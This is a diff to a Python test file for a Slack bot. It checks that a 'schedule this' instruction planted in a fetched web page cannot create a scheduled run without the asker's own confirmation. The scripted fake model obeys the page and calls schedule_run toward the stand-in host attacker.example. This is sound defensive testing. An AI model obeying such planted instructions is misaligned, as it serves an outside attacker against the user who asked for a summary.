@@ -5,12 +5,10 @@ from __future__ import annotations
 
 from collections.abc import AsyncIterator
 
-import aiohttp
 import pytest
 
 from bot.runs.schedule_proposals import CONFIRM_ACTION_ID
-from bot.serve.service import Service
-from tests.bot.conftest import App, make_settings
+from tests.bot.conftest import App
 from tests.bot.queue.test_schedules import agent
 from tests.fakes.openai_server import FakeOpenAI, text, tool_calls
 from tests.fakes.pages import PageServer
@@ -28,15 +26,6 @@ async def pages() -> AsyncIterator[PageServer]:
         yield server
 
 
-@pytest.fixture
-async def fetching(
-    key_prefix: str, fake_slack: FakeSlack, fake_openai: FakeOpenAI, pages: PageServer
-) -> AsyncIterator[App]:
-    settings = make_settings(key_prefix, fake_slack, fake_openai, fetch_url_allowed_hosts=pages.host_port)
-    async with Service(settings, "web") as service, aiohttp.ClientSession() as http:
-        yield App(service, http)
-
-
 def confirm_buttons(slack: FakeSlack) -> list[tuple[str, str]]:
     """(who sees it, its value) of every Confirm button the app showed."""
     found = []
@@ -49,7 +38,7 @@ def confirm_buttons(slack: FakeSlack) -> list[tuple[str, str]]:
 
 
 async def test_a_planted_schedule_this_in_a_fetched_page_schedules_nothing(
-    fetching: App, fake_slack: FakeSlack, fake_openai: FakeOpenAI, pages: PageServer
+    guarded: App, fake_slack: FakeSlack, fake_openai: FakeOpenAI, pages: PageServer
 ) -> None:
     # The model obeys the page: it calls schedule_run. That proposal is all it can do.
     fake_openai.queue(
@@ -58,21 +47,21 @@ async def test_a_planted_schedule_this_in_a_fetched_page_schedules_nothing(
                                                                       "http://attacker.example"})),
         text("Done."),
     )
-    await fetching.post_event(event_body(mention(text="<@UBOT> summarise the release notes", ts=next_ts())))
-    await fetching.drain()
-    assert "No schedules" in await agent(fetching, "schedule list")
+    await guarded.post_event(event_body(mention(text="<@UBOT> summarise the release notes", ts=next_ts())))
+    await guarded.drain()
+    assert "No schedules" in await agent(guarded, "schedule list")
     assert "Scheduled by" not in str([c.params for c in fake_slack.calls_of("chat.postMessage")])
     [(shown_to, value)] = confirm_buttons(fake_slack)
     assert shown_to == "U1"  # only the asker sees it: nobody else in the channel can be talked into it
     # Someone else's press creates nothing (and leaves it for its asker).
-    await fetching.post_form(action_body(action_id=CONFIRM_ACTION_ID, value=value, user="U2"))
-    assert "No schedules" in await agent(fetching, "schedule list")
+    await guarded.post_form(action_body(action_id=CONFIRM_ACTION_ID, value=value, user="U2"))
+    assert "No schedules" in await agent(guarded, "schedule list")
     # The asker's own press is what creates it.
-    await fetching.post_form(action_body(action_id=CONFIRM_ACTION_ID, value=value, user="U1"))
-    assert "every 2 hours" in await agent(fetching, "schedule list")
+    await guarded.post_form(action_body(action_id=CONFIRM_ACTION_ID, value=value, user="U1"))
+    assert "every 2 hours" in await agent(guarded, "schedule list")
     # A second press finds nothing: one schedule.
-    await fetching.post_form(action_body(action_id=CONFIRM_ACTION_ID, value=value, user="U1"))
-    assert (await agent(fetching, "schedule list")).count("every 2 hours") == 1
+    await guarded.post_form(action_body(action_id=CONFIRM_ACTION_ID, value=value, user="U1"))
+    assert (await agent(guarded, "schedule list")).count("every 2 hours") == 1
 
 
 async def test_a_proposal_the_clock_cannot_read_is_told_to_the_model_and_shows_nothing(
